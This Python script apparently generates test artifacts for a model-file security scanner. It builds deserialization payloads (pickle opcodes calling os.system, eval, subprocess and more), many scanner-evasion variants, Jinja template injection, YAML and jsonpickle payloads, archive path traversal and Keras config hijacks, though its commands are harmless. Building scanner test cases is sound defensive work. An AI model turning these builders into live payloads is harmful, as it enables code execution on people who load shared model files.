"""Writes artifacts that would do something when they are loaded into a directory; none of them is loaded here.

    python make-malicious.py DIRECTORY

What they would do is harmless in itself (they print, or make a file /tmp/scanned), but a loader would do it. Three things are crossed: what
is called, how the pickle calls it, and what the pickle is wrapped in. Formats other than pickle come last, as far as their libraries are here.
"""

import bz2
import gzip
import io
import itertools
import json
import lzma
import pathlib
import pickle
import random
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib

warnings.filterwarnings("ignore")
OUT = pathlib.Path(sys.argv[1])
OUT.mkdir(parents=True, exist_ok=True)
random.seed(20)

# what is called, and with what: taken from Python's documentation, module by module, and from the libraries that model servers have
TARGETS = {
    "os": [("system", "id"), ("popen", "id"), ("execv", "/bin/sh"), ("remove", "/tmp/scanned"), ("putenv", "LD_PRELOAD"), ("listdir", "/"), ("startfile", "x")],
    "posix": [("system", "id"), ("spawnv", "x")],
    "nt": [("system", "dir")],
    "subprocess": [("Popen", "id"), ("run", "id"), ("call", "id"), ("check_output", "id"), ("getoutput", "id"), ("getstatusoutput", "id")],
    "builtins": [("exec", "print(1)"), ("eval", "print(1)"), ("compile", "1"), ("__import__", "os"), ("open", "/etc/passwd"), ("input", "?"), ("breakpoint", ""), ("globals", ""), ("vars", ""), ("help", "x"), ("print", "x")],
    "__builtin__": [("execfile", "/tmp/x.py"), ("eval", "1"), ("file", "/etc/passwd"), ("reload", "os")],
    "importlib": [("import_module", "os"), ("reload", "os")],
    "importlib.util": [("spec_from_file_location", "x")],
    "runpy": [("run_path", "/tmp/x.py"), ("run_module", "x")],
    "code": [("interact", "x")],
    "codeop": [("compile_command", "1")],
    "pdb": [("run", "1"), ("set_trace", "")],
    "bdb": [("Bdb", "x")],
    "timeit": [("timeit", "print(1)"), ("repeat", "1"), ("main", "x")],
    "cProfile": [("run", "print(1)")],
    "trace": [("Trace", "x")],
    "doctest": [("testfile", "x")],
    "pty": [("spawn", "/bin/sh")],
    "commands": [("getoutput", "id")],
    "popen2": [("popen2", "id")],
    "platform": [("popen", "id"), ("_syscmd_ver", "x")],
    "shutil": [("rmtree", "/tmp/scanned"), ("copyfile", "a"), ("move", "a"), ("unpack_archive", "a")],
    "socket": [("create_connection", "x"), ("socket", ""), ("gethostbyname", "x")],
    "urllib.request": [("urlopen", "file:///etc/passwd"), ("urlretrieve", "x")],
    "urllib2": [("urlopen", "x")],
    "http.client": [("HTTPConnection", "x"), ("HTTPSConnection", "x")],
    "ftplib": [("FTP", "x")],
    "smtplib": [("SMTP", "x")],
    "telnetlib": [("Telnet", "x")],
    "xmlrpc.client": [("ServerProxy", "x")],
    "webbrowser": [("open", "x")],
    "ctypes": [("CDLL", "libc.so.6"), ("PyDLL", "x")],
    "ctypes.util": [("find_library", "x")],
    "multiprocessing": [("Process", "x")],
    "multiprocessing.util": [("spawnv_passfds", "x")],
    "threading": [("Thread", "x"), ("Timer", "x")],
    "concurrent.futures": [("ProcessPoolExecutor", "x")],
    "asyncio": [("create_subprocess_shell", "id"), ("run", "x")],
    "pickle": [("loads", "x"), ("load", "x"), ("Unpickler", "x")],
    "cPickle": [("loads", "x")],
    "_pickle": [("loads", "x")],
    "marshal": [("loads", "x"), ("load", "x")],
    "shelve": [("open", "/tmp/x")],
    "dbm": [("open", "/tmp/x")],
    "sqlite3": [("connect", "/tmp/scanned")],
    "tempfile": [("mkdtemp", "x"), ("NamedTemporaryFile", "w")],
    "zipfile": [("ZipFile", "x")],
    "tarfile": [("open", "x")],
    "logging.config": [("fileConfig", "x"), ("dictConfig", "x"), ("listen", "x")],
    "logging": [("FileHandler", "/tmp/scanned")],
    "site": [("addsitedir", "/tmp"), ("main", "")],
    "sys": [("exit", "1"), ("setrecursionlimit", "1"), ("settrace", "x"), ("modules", "x"), ("_getframe", "")],
    "gc": [("get_objects", "")],
    "inspect": [("getsource", "x"), ("stack", "")],
    "atexit": [("register", "x")],
    "signal": [("alarm", "1"), ("signal", "x")],
    "fileinput": [("input", "/etc/passwd"), ("FileInput", "x")],
    "linecache": [("getlines", "/etc/passwd")],
    "glob": [("glob", "/*")],
    "io": [("open", "/etc/passwd"), ("FileIO", "/tmp/scanned"), ("open_code", "x")],
    "codecs": [("open", "/etc/passwd")],
    "mmap": [("mmap", "x")],
    "imp": [("load_source", "x"), ("find_module", "x")],
    "pkgutil": [("get_data", "x"), ("run_module", "x"), ("find_loader", "x")],
    "zipimport": [("zipimporter", "x")],
    "py_compile": [("compile", "x")],
    "compileall": [("compile_dir", "x")],
    "ensurepip": [("bootstrap", "")],
    "venv": [("main", "")],
    "unittest": [("main", "x")],
    "turtle": [("Screen", "")],
    "getpass": [("getpass", "x")],
    "cgi": [("test", "")],
    "rlcompleter": [("Completer", "x")],
    "tkinter": [("Tk", "")],
    "cmd": [("Cmd", "x")],
    "mailcap": [("findmatch", "x")],
    "types": [("FunctionType", "x"), ("CodeType", "x"), ("ModuleType", "x")],
    "functools": [("reduce", "x")],
    "operator": [("methodcaller", "system")],
    "dis": [("dis", "x")],
    "pathlib": [("os.system", "id"), ("Path.unlink", "x"), ("Path.write_text", "x")],
    "xml.etree.ElementTree": [("parse", "/etc/passwd")],
    "wsgiref.simple_server": [("make_server", "x")],
    "socketserver": [("TCPServer", "x")],
    "pip": [("main", "install"), ("_internal.main", "x")],
    "setuptools": [("setup", "x")],
    "distutils.spawn": [("spawn", "x")],
    "numpy": [("load", "x"), ("fromfile", "x"), ("memmap", "x"), ("savetxt", "x"), ("genfromtxt", "x")],
    "numpy.testing._private.utils": [("runstring", "1")],
    "numpy.f2py.diagnose": [("run_command", "id")],
    "numpy.ctypeslib": [("load_library", "x")],
    "pandas": [("read_pickle", "x"), ("eval", "1"), ("read_csv", "x")],
    "pandas.io.pickle": [("read_pickle", "x")],
    "torch": [("load", "x"), ("save", "x"), ("compile", "x")],
    "torch.hub": [("load", "x"), ("download_url_to_file", "x")],
    "torch.utils.cpp_extension": [("load_inline", "x")],
    "torch.package": [("PackageImporter", "x")],
    "torch._C": [("_jit_clear_class_registry_load", "x")],
    "joblib": [("load", "x")],
    "sklearn.datasets": [("fetch_openml", "x")],
    "sklearn.utils._testing": [("assert_run_python_script_without_output", "print(1)")],
    "tensorflow": [("py_function", "x"), ("load_library", "x")],
    "keras.models": [("load_model", "x")],
    "keras.utils": [("get_file", "x")],
    "transformers": [("pipeline", "x")],
    "transformers.dynamic_module_utils": [("get_class_from_dynamic_module", "x")],
    "yaml": [("unsafe_load", "x"), ("load", "x")],
    "jinja2": [("Template", "x")],
    "requests": [("get", "http://127.0.0.1")],
    "httpx": [("get", "x")],
    "paramiko": [("SSHClient", "")],
    "dill": [("loads", "x")],
    "cloudpickle": [("loads", "x")],
    "IPython": [("embed", "")],
    "ipykernel": [("embed", "")],
    "psutil": [("Popen", "x")],
    "pexpect": [("run", "id")],
    "sh": [("Command", "x")],
    "boto3": [("client", "s3")],
    "mlflow.pyfunc": [("load_model", "x")],
    "evil_package": [("run", "import os; os.system('id')"), ("Loader", "bash -c id")],
}
ALL = [(module, name, argument) for module, names in TARGETS.items() for name, argument in names]


def short(text):
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def binary(text):
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


# how the pickle calls it
def reduce0(module, name, argument):
    return b"c%s\n%s\n(S'%s'\ntR." % (module.encode(), name.encode(), argument.replace("'", '"').encode())


def reduce2(module, name, argument):
    return b"\x80\x02c%s\n%s\nq\x00" % (module.encode(), name.encode()) + binary(argument) + b"q\x01\x85q\x02Rq\x03."


def reduce4(module, name, argument):
    body = short(module) + b"\x94" + short(name) + b"\x94\x93\x94" + short(argument) + b"\x94\x85\x94R\x94."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def inst(module, name, argument):
    return b"(S'%s'\ni%s\n%s\n." % (argument.replace("'", '"').encode(), module.encode(), name.encode())


def obj(module, name, argument):
    return b"(c%s\n%s\n" % (module.encode(), name.encode()) + binary(argument) + b"o."


def newobj(module, name, argument):
    return b"\x80\x02c%s\n%s\n" % (module.encode(), name.encode()) + binary(argument) + b"\x85\x81."


def newobj_ex(module, name, argument):
    return b"\x80\x04c%s\n%s\n" % (module.encode(), name.encode()) + short(argument) + b"\x85}\x92."


def after_stop(module, name, argument):
    return pickle.dumps({"weights": [1.0, 2.0]}) + reduce2(module, name, argument)


def hidden_deep(module, name, argument):
    inner = reduce2(module, name, argument)[2:-1]
    return b"\x80\x02}(" + binary("layers") + b"](" + b"K\x01K\x02" + b"(" + inner + b"t" + b"e" + binary("x") + b"K\x03u."


def popped(module, name, argument):
    return b"\x80\x02" + reduce2(module, name, argument)[2:-1] + b"0" + pickle.dumps([1, 2], 2)[2:]


def through_memo(module, name, argument):
    return b"\x80\x04" + short(name) + b"\x94" + short(module) + b"\x94" + b"00h\x01h\x00\x93" + short(argument) + b"\x85R."


def then_broken(module, name, argument):
    return reduce2(module, name, argument)[:-1] + b"\xff\xfe not an opcode"


def cut_short(module, name, argument):
    return reduce2(module, name, argument)[:-1] + b"B\xff\xff\x00\x00abc"


def escaped(module, name, argument):
    word = lambda text: b"V" + b"".join(b"\\u%04x" % ord(c) for c in text) + b"\n"
    return b"\x80\x04" + word(module) + word(name) + b"\x93" + word(argument) + b"\x85R."


def extension(module, name, argument):
    register = b"ccopyreg\nadd_extension\n" + binary(module) + binary(name) + b"K\x07\x87R0"
    return b"\x80\x02" + register + b"\x82\x07" + binary(argument) + b"\x85R."


def partial(module, name, argument):
    return b"\x80\x02cfunctools\npartial\nc%s\n%s\n" % (module.encode(), name.encode()) + binary(argument) + b"\x86R)R."


def mapped(module, name, argument):
    return b"\x80\x02c__builtin__\nlist\nc__builtin__\nmap\nc%s\n%s\n" % (module.encode(), name.encode()) + b"]" + binary(argument) + b"a\x86R\x85R."


def nested(module, name, argument):
    inner = reduce2(module, name, argument)
    return b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


def nested_zip(module, name, argument):
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("archive/data.pkl", reduce2(module, name, argument))
        z.writestr("archive/version", "3\n")
    raw = inner.getvalue()
    return b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(raw)) + raw + b"\x85R."


def frame_short(module, name, argument):
    # a byte string that begins in its frame and ends behind it
    return b"\x80\x04\x95" + struct.pack("<Q", 6) + b"C\x10aaaaaaaaaaaaaaaa0" + reduce4(module, name, argument)[11:]


def built(module, name, argument):
    return b"\x80\x02ccollections\nOrderedDict\n)R}" + binary("__class__") + b"c%s\n%s\n" % (module.encode(), name.encode()) + b"sb."


BUILDERS = [reduce0, reduce2, reduce4, inst, obj, newobj, newobj_ex, after_stop, hidden_deep, popped, through_memo, then_broken, cut_short, escaped, extension, partial, mapped, nested, nested_zip, frame_short, built]


# what it is wrapped in
def raw(data, path):
    path.with_suffix(".pkl").write_bytes(data)


def named_otherwise(data, path):
    path.with_suffix(".txt").write_bytes(data)


def compressed(compress, ending):
    def wrap(data, path):
        path.with_suffix(ending).write_bytes(compress(data))

    wrap.__name__ = "compressed" + ending.replace(".", "-")
    return wrap


def torch_zip(data, path):
    with zipfile.ZipFile(path.with_suffix(".pt"), "w") as z:
        z.writestr("archive/data.pkl", data)
        z.writestr("archive/data/0", b"\0" * 64)
        z.writestr("archive/version", "3\n")


def torch_zip_deflated(data, path):
    with zipfile.ZipFile(path.with_suffix(".pth"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("m/data.pkl", data)
        z.writestr("m/version", "3\n")


def zip_lzma(data, path):
    with zipfile.ZipFile(path.with_suffix(".zip"), "w", zipfile.ZIP_LZMA) as z:
        z.writestr("data.pkl", data)


def zip_bz2(data, path):
    with zipfile.ZipFile(path.with_suffix(".zip"), "w", zipfile.ZIP_BZIP2) as z:
        z.writestr("data.pkl", data)


def _zip_bytes(data):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("archive/data.pkl", data)
        z.writestr("archive/version", "3\n")
    return bytearray(buffer.getvalue())


def zip_flags(data, path):
    raw_zip = _zip_bytes(data)
    at = raw_zip.find(b"PK\x01\x02")
    raw_zip[at + 8] |= 1
    raw_zip[6] |= 1
    path.with_suffix(".pt").write_bytes(raw_zip)


def zip_crc(data, path):
    raw_zip = _zip_bytes(data)
    at = raw_zip.find(b"PK\x01\x02")
    raw_zip[at + 16] ^= 0xFF
    path.with_suffix(".pt").write_bytes(raw_zip)


def zip_local_name(data, path):
    raw_zip = _zip_bytes(data)
    raw_zip[30:46] = b"archive/data.txt"
    path.with_suffix(".pt").write_bytes(raw_zip)


def zip_no_end(data, path):
    raw_zip = _zip_bytes(data)
    path.with_suffix(".pt").write_bytes(raw_zip[: raw_zip.find(b"PK\x01\x02")])


def zip_prefixed(data, path):
    path.with_suffix(".pt").write_bytes(b"#!/bin/sh\nexit\n" * 20 + _zip_bytes(data))


def zip_in_zip(data, path):
    with zipfile.ZipFile(path.with_suffix(".zip"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("models/inner.pt", bytes(_zip_bytes(data)))


def in_tar(data, path):
    with tarfile.open(path.with_suffix(".tar"), "w") as t:
        info = tarfile.TarInfo("model/model.pkl")
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))


def in_tar_gz(data, path):
    with tarfile.open(path.with_suffix(".tar.gz"), "w:gz") as t:
        info = tarfile.TarInfo("model.joblib")
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))


def numpy_object(data, path):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    path.with_suffix(".npy").write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data)


def numpy_zip(data, path):
    numpy_object(data, path)
    inner = path.with_suffix(".npy").read_bytes()
    path.with_suffix(".npy").unlink()
    with zipfile.ZipFile(path.with_suffix(".npz"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("x.npy", inner)


def torch_legacy(data, path):
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    path.with_suffix(".pth").write_bytes(magic + data + pickle.dumps([], 2))


def torch_tar(data, path):
    with tarfile.open(path.with_suffix(".tar"), "w") as t:
        for name, content in (("sys_info", pickle.dumps({}, 2)), ("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2)), ("pickle", data)):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            t.addfile(info, io.BytesIO(content))


WRAPPERS = [
    raw, named_otherwise, compressed(zlib.compress, ".joblib"), compressed(gzip.compress, ".pkl.gz"), compressed(bz2.compress, ".bz2"), compressed(lzma.compress, ".xz"),
    compressed(lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE), ".lzma"), torch_zip, torch_zip_deflated, zip_lzma, zip_bz2, zip_flags, zip_crc, zip_local_name, zip_no_end,
    zip_prefixed, zip_in_zip, in_tar, in_tar_gz, numpy_object, numpy_zip, torch_legacy, torch_tar,
]  # fmt: skip


def crossed():
    """Every target plainly; then every builder in every wrapper, each with a target drawn at random."""
    for number, (module, name, argument) in enumerate(ALL):
        raw((reduce4 if number % 2 else reduce2)(module, name, argument), OUT / f"target-{module}-{name}")
    plain = [entry for entry in ALL if "." not in entry[1]]
    for builder, wrapper in itertools.product(BUILDERS, WRAPPERS):
        wrapper(builder(*random.choice(plain)), OUT / f"{builder.__name__}-{wrapper.__name__}")


def after_joblib_array():
    import joblib
    import numpy as np

    for target in random.sample(ALL, 6):
        buffer = io.BytesIO()
        joblib.dump([np.arange(50.0), "end"], buffer)
        data = buffer.getvalue()
        call = reduce2(*target)[2:-1]
        (OUT / f"joblib-tail-{target[0]}-{target[1]}.joblib").write_bytes(data[:-1] + call + b".")


def texts():
    for number, template in enumerate([
        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}", "{{ (messages|attr('\\x5f\\x5fclass\\x5f\\x5f')) }}", "{{ messages['__cla'+'ss__'] }}",
    ]):  # fmt: skip
        folder = OUT / f"template-{number}"
        folder.mkdir(exist_ok=True)
        (folder / "tokenizer_config.json").write_text(json.dumps({"chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}" + template}))
        (OUT / f"template-{number}.jinja").write_text(template)
        body = b"GGUF" + struct.pack("<IQQ", 3, 0, 1)
        for text in (b"tokenizer.chat_template",):
            body += struct.pack("<Q", len(text)) + text
        raw_template = template.encode()
        (OUT / f"template-{number}.gguf").write_bytes(body + struct.pack("<IQ", 8, len(raw_template)) + raw_template)
    for number, text in enumerate(["a: !!python/object/apply:os.system ['id']\n", "!!python/object/new:subprocess.Popen [id]\n", "x: !!python/name:builtins.eval\n"]):
        (OUT / f"config-{number}.yaml").write_text(text)
    (OUT / "jsonpickle.json").write_text(json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}))
    (OUT / "skops-schema.json").write_text(json.dumps({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}))


def paths():
    for name in ("../../etc/cron.d/x", "/etc/cron.d/x", "a/../../x"):
        label = name.replace("/", "_")
        with zipfile.ZipFile(OUT / f"slip-{label}.zip", "w") as z:
            z.writestr(name, "x")
        with tarfile.open(OUT / f"slip-{label}.tar", "w") as t:
            info = tarfile.TarInfo(name)
            t.addfile(info)
    with tarfile.open(OUT / "slip-link.tar.gz", "w:gz") as t:
        info = tarfile.TarInfo("weights")
        info.type = tarfile.SYMTYPE
        info.linkname = "/etc/passwd"
        t.addfile(info)


def keras_files():
    import h5py
    import keras

    model = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: x * 2)])
    model.save(OUT / "lambda.keras")
    model.save(OUT / "lambda.h5")
    plain = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)])

    def variant(name, change):
        plain.save(OUT / f"{name}.keras")
        with zipfile.ZipFile(OUT / f"{name}.keras") as z:
            parts = {entry: z.read(entry) for entry in z.namelist()}
        config = json.loads(parts["config.json"])
        change(config)
        parts["config.json"] = json.dumps(config).encode()
        with zipfile.ZipFile(OUT / f"{name}.keras", "w") as z:
            for entry, content in parts.items():
                z.writestr(entry, content)

    layer = lambda config: config["config"]["layers"][-1]
    variant("keras-os", lambda c: layer(c).update(module="os", class_name="system", registered_name=None))
    variant("keras-builtins", lambda c: layer(c).update(module="builtins", class_name="exec", registered_name=None))
    variant("keras-load", lambda c: layer(c).update(module="keras.saving", class_name="load_model", registered_name=None))
    variant("keras-get-file", lambda c: layer(c).update(module="keras.utils", class_name="get_file", registered_name=None))
    variant("keras-importlib", lambda c: layer(c)["config"].update(kernel_initializer={"module": "importlib", "class_name": "import_module", "config": {}, "registered_name": None}))
    variant("keras-tfsm", lambda c: layer(c).update(module="keras.layers", class_name="TFSMLayer", config={"filepath": "/tmp/evil"}))
    variant("keras-torch", lambda c: layer(c).update(module="keras.layers", class_name="TorchModuleWrapper", config={"module": "gAJjb3MKc3lzdGVtClgCAAAAaWSFUi4="}))
    variant("keras-deep", lambda c: layer(c)["config"].update(bias_constraint={"config": {"inner": [{"module": "subprocess", "class_name": "Popen", "config": {}}]}, "module": "keras.constraints", "class_name": "MaxNorm"}))
    with h5py.File(OUT / "external.h5", "w") as f:
        f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": []}})
        f["weights"] = h5py.ExternalLink("/etc/passwd", "/x")


def tensorflow_files():
    import tensorflow as tf

    class Reads(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
        def __call__(self, x):
            return tf.io.read_file("/etc/passwd")

    class Writes(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
        def __call__(self, x):
            tf.io.write_file("/tmp/scanned", x)
            return x

    class Calls(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
        def __call__(self, x):
            return tf.py_function(lambda y: y, [x], tf.float32)

    class Lists(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
        def __call__(self, x):
            return tf.io.matching_files("/*")

    for kind in (Reads, Writes, Calls, Lists):
        tf.saved_model.save(kind(), str(OUT / f"tf-{kind.__name__}/1"))


def onnx_files():
    import onnx
    from onnx import TensorProto, helper

    for number, location in enumerate(("../../../etc/passwd", "/etc/passwd", "a/../../b", "..\\..\\x")):
        weights = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2], data_location=TensorProto.EXTERNAL)
        weights.external_data.add(key="location", value=location)
        graph = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], [weights])
        (OUT / f"external-{number}.onnx").write_bytes(helper.make_model(graph).SerializeToString())


def torch_files():
    import torch

    class Saves(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.from_file("/etc/passwd", False, 4, dtype=torch.uint8)

    torch.jit.script(Saves()).save(OUT / "script-from-file.pt")

    class Evil:
        def __reduce__(self):
            import os

            return os.system, ("id",)

    torch.save({"state": torch.zeros(2), "x": Evil()}, OUT / "reduce.pt")
    torch.save({"state": torch.zeros(2), "x": Evil()}, OUT / "reduce-legacy.pt", _use_new_zipfile_serialization=False)


def sealed_code():
    import cloudpickle

    def hello():
        import os

        return os.system("id")

    class Called:
        def __reduce__(self):
            return hello, ()

    hello.__module__ = "__main__"
    (OUT / "cloudpickle-called.pkl").write_bytes(cloudpickle.dumps(Called()))


for section in (crossed, after_joblib_array, texts, paths, keras_files, tensorflow_files, onnx_files, torch_files, sealed_code):
    try:
        section()
    except Exception as error:
        print(f"left out {section.__name__}: {type(error).__name__} {error}", file=sys.stderr)
